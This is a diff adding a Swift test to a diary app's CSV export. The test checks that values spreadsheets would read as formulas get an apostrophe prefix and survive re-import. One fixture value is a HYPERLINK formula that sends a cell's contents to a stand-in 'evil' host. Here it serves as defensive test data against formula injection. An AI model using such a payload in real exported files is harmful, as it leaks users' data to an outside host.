@@ -97,6 +97,52 @@ import Vault
     #expect(try await medications(of: other).isEmpty)
   }
 
+  @Test("bring back exactly what a spreadsheet could take for a formula, with an apostrophe in the file")
+  func formulas() async throws {
+    let (diary, other) = (try await Diary(), try await Diary())
+    let texts = [
+      "=HYPERLINK(\"http://evil/?\"&A1)", "'=1+1", "''+1", "+33 1", "-5", "'-5", "- mal", "@SUM(A1)", "\t=1",
+      "\r\n=1", "-1e5 x", "it's", "'so'", "=\u{338}",
+    ]
+    let days = texts.indices.map { first.adding(days: -$0) }
+    for (day, text) in zip(days, texts) {
+      try await diary.client.editDay(day) { draft in
+        draft.notes = text
+        draft.symptoms = [SymptomDraft(painIn: .uterus, intensity: 8, .cramping, notes: text)]
+      }
+    }
+    try await diary.client.addCustomSymptom("@voisine")
+    try await diary.client.addMedication(MedicationDraft(name: "=1+1", dose: "-1 le soir", notes: "\t=1\n"))
+    try await diary.client.addContraception(
+      ContraceptionDraft(method: Open(.pill), name: "+", notes: "'=1", start: first))
+
+    let source = try await tables(of: diary)
+    var live: [String] = []
+    for entry in source.entries {
+      var reader = try CSVReader(entry)
+      while let row = try reader.next() {
+        live += row.fields.filter { FormulaMark.added(to: $0) == "'" + $0 }
+      }
+    }
+    #expect(live.filter { $0.utf8.first != UInt8(ascii: "'") } == [])
+    #expect(live.count > texts.count)
+
+    let run = try await other.bring(source, DiaryImporter(.tables))
+    #expect(run.report.refusals == [])
+    for day in days {
+      let (came, was) = (
+        try await other.client.value(DayQuery(day)), try await diary.client.value(DayQuery(day))
+      )
+      #expect(DayDraft(came) == DayDraft(was))
+    }
+    #expect(try await medications(of: other) == medications(of: diary))
+    #expect(
+      try await other.client.value(ContraceptionsQuery()).map { ContraceptionDraft($0) }
+        == diary.client.value(ContraceptionsQuery()).map { ContraceptionDraft($0) })
+    #expect(try await other.client.value(CustomSymptomsQuery()).map(\.name) == ["@voisine"])
+    #expect(try await other.bring(source, DiaryImporter(.tables)).transaction == nil)
+  }
+
   @Test("find a medication of the same name and dose, and ask where the two notebooks differ")
   func differing() async throws {
     let (diary, iron, _) = try await filled()
